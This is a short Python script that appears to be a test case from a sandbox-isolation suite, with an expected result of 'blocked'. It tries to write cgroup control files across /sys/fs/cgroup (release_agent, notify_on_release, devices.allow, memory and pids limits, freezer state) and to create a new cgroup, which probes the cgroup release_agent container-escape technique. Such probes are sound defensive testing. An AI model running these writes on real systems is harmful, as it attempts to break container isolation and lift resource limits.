# attack: makes the kernel run a program outside through cgroup release files, joins other cgroups, raises its limits
# verdict: completed
# prints: blocked
import glob
import os

found = []
for folder in ["/sys/fs/cgroup", *glob.glob("/sys/fs/cgroup/*"), *glob.glob("/sys/fs/cgroup/*/*/")]:
    for name, text in (
        ("release_agent", "/tmp/out"), ("notify_on_release", "1"), ("cgroup.procs", "0"), ("tasks", "0"), ("memory.limit_in_bytes", "-1"),
        ("memory.max", "max"), ("pids.max", "max"), ("cgroup.subtree_control", "+pids"), ("devices.allow", "a"), ("freezer.state", "FROZEN"),
    ):
        try:
            with open(f"{folder}/{name}", "w") as file:
                file.write(text)
            found.append(f"{folder}/{name}")
        except OSError:
            pass
    try:
        os.mkdir(f"{folder}/mine")
        found.append(f"{folder}/mine")
    except OSError:
        pass
print(f"breached: {found}" if found else "blocked")
